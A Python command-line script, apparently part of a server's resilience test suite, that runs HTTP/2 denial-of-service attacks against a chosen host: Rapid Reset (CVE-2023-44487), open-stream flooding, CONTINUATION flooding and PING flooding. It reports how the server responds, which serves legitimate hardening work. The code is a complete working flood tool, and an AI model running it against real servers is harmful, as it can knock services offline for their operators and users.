#!/usr/bin/env python3
"""HTTP/2 abuse client for the resilience tests (python `h2` + `hyperframe`).

Usage: h2_attack.py MODE HOST PORT COUNT

Modes (h2c with prior knowledge):
  rapid-reset   COUNT streams, each HEADERS (GET, END_STREAM) immediately followed by
                RST_STREAM(CANCEL), written in large batches (CVE-2023-44487).
  stream-flood  COUNT POST streams opened without ever sending their bodies, so each
                stays open; the server must refuse those beyond its concurrency limit.
  continuation  one HEADERS frame without END_HEADERS followed by COUNT empty
                CONTINUATION frames (the 2024 CONTINUATION flood).
  ping-flood    COUNT PING frames without reading the PONGs.

Prints one JSON object: frames sent, what came back (GOAWAY and its error code, resets
and their codes, responses) and whether the server closed the connection.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame

READ_TIMEOUT = 5.0


class Outcome:
    def __init__(self):
        self.sent = 0
        self.goaway = None
        self.last_stream_id = None
        self.resets = {}
        self.responses = {}
        self.closed = False
        self.send_error = None
        self.max_concurrent_streams = None

    def absorb(self, events):
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = code_name(event.error_code)
                self.last_stream_id = event.last_stream_id
            elif isinstance(event, h2.events.StreamReset):
                name = code_name(event.error_code)
                self.resets[name] = self.resets.get(name, 0) + 1
            elif isinstance(event, h2.events.ResponseReceived):
                status = dict(event.headers).get(b":status", b"?").decode()
                self.responses[status] = self.responses.get(status, 0) + 1
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                setting = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if setting is not None:
                    self.max_concurrent_streams = setting.new_value

    def json(self):
        return json.dumps(
            {
                "sent": self.sent,
                "goaway": self.goaway,
                "last_stream_id": self.last_stream_id,
                "resets": self.resets,
                "responses": self.responses,
                "closed": self.closed,
                "send_error": self.send_error,
                "max_concurrent_streams": self.max_concurrent_streams,
            }
        )


def code_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=READ_TIMEOUT)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config=config)
    conn.local_settings = h2.settings.Settings(client=True, initial_values={})
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def received(sock, outcome, timeout):
    """Yields what arrives until `timeout` passes quietly or the server closes (noted)."""
    sock.settimeout(timeout)
    while True:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            return
        except ConnectionResetError:
            outcome.closed = True
            return
        if not data:
            outcome.closed = True
            return
        yield data


def drain(sock, conn, outcome, until_closed=True, timeout=READ_TIMEOUT):
    """Reads frames until the server closes the connection or `timeout` passes quietly."""
    for data in received(sock, outcome, timeout):
        try:
            outcome.absorb(conn.receive_data(data))
        except h2.exceptions.ProtocolError:
            # Frames for streams this client already forgot: the events are still counted.
            pass
        pending = conn.data_to_send()
        if pending:
            try:
                sock.sendall(pending)
            except OSError:
                outcome.closed = True
                return
        if not until_closed:
            return


def send(sock, data, outcome):
    try:
        sock.sendall(data)
        return True
    except OSError as e:
        outcome.send_error = type(e).__name__
        return False


def request_headers(host, port, method):
    return [
        (":method", method),
        (":scheme", "http"),
        (":authority", f"{host}:{port}"),
        (":path", "/attack"),
    ]


def rapid_reset(host, port, count):
    sock, conn = connect(host, port)
    outcome = Outcome()
    headers = request_headers(host, port, "GET")
    batch = 100
    stream_id = 1
    while outcome.sent < count:
        for _ in range(min(batch, count - outcome.sent)):
            conn.send_headers(stream_id, headers, end_stream=True)
            conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
            stream_id += 2
            outcome.sent += 1
        if not send(sock, conn.data_to_send(), outcome):
            break
        # Read whatever arrived without blocking, so a GOAWAY is noticed early.
        sock.setblocking(False)
        try:
            data = sock.recv(65536)
            if not data:
                outcome.closed = True
                break
            outcome.absorb(conn.receive_data(data))
        except (BlockingIOError, h2.exceptions.ProtocolError):
            pass
        except ConnectionResetError:
            outcome.closed = True
            break
        finally:
            sock.setblocking(True)
        if outcome.goaway is not None:
            break
    drain(sock, conn, outcome)
    sock.close()
    return outcome


def stream_flood(host, port, count):
    sock, conn = connect(host, port)
    outcome = Outcome()
    drain(sock, conn, outcome, until_closed=False, timeout=1.0)
    headers = request_headers(host, port, "POST") + [("content-length", "10")]
    stream_id = 1
    for _ in range(count):
        # Raw HEADERS frames: the h2 library itself would refuse to exceed the peer's limit.
        frame = HeadersFrame(stream_id)
        frame.data = conn.encoder.encode(headers)
        frame.flags.add("END_HEADERS")
        if not send(sock, frame.serialize(), outcome):
            break
        outcome.sent += 1
        stream_id += 2
    # The client cannot track streams it opened behind the library's back, so events about
    # them come back as protocol errors; count the raw frame types instead.
    outcome.resets = count_frames(sock, outcome)
    sock.close()
    return outcome


def count_frames(sock, outcome):
    """Counts RST_STREAM error codes and notes GOAWAY from raw frames until quiet or closed."""
    from hyperframe.frame import Frame, GoAwayFrame, RstStreamFrame

    buf = b""
    resets = {}
    for data in received(sock, outcome, 2.0):
        buf += data
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9 : 9 + length]))
            buf = buf[9 + length :]
            if isinstance(frame, RstStreamFrame):
                name = code_name(frame.error_code)
                resets[name] = resets.get(name, 0) + 1
            elif isinstance(frame, GoAwayFrame):
                outcome.goaway = code_name(frame.error_code)
                outcome.last_stream_id = frame.last_stream_id
    return resets


def continuation(host, port, count):
    sock, conn = connect(host, port)
    outcome = Outcome()
    frame = HeadersFrame(1)
    frame.data = conn.encoder.encode(request_headers(host, port, "GET"))
    send(sock, frame.serialize(), outcome)
    filler = ContinuationFrame(1)
    filler.data = b""
    return flood(sock, outcome, filler, count)


def ping_flood(host, port, count):
    sock, conn = connect(host, port)
    outcome = Outcome()
    ping = PingFrame(0)
    ping.opaque_data = b"12345678"
    # The socket's receive side is never read while sending, as an attacker would do.
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(10.0)
    return flood(sock, outcome, ping, count)


def flood(sock, outcome, frame, count):
    """Sends `frame` `count` times (batches of 1,000, at most 20 s), then reads the answer."""
    chunk = frame.serialize() * 1000
    started = time.monotonic()
    while outcome.sent < count and time.monotonic() - started < 20:
        if not send(sock, chunk, outcome):
            break
        outcome.sent += 1000
    count_frames(sock, outcome)
    sock.close()
    return outcome


def main():
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    mode, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    modes = {
        "rapid-reset": rapid_reset,
        "stream-flood": stream_flood,
        "continuation": continuation,
        "ping-flood": ping_flood,
    }
    if mode not in modes:
        sys.exit(f"unknown mode {mode!r}; one of {', '.join(modes)}")
    print(modes[mode](host, port, count).json())


if __name__ == "__main__":
    main()
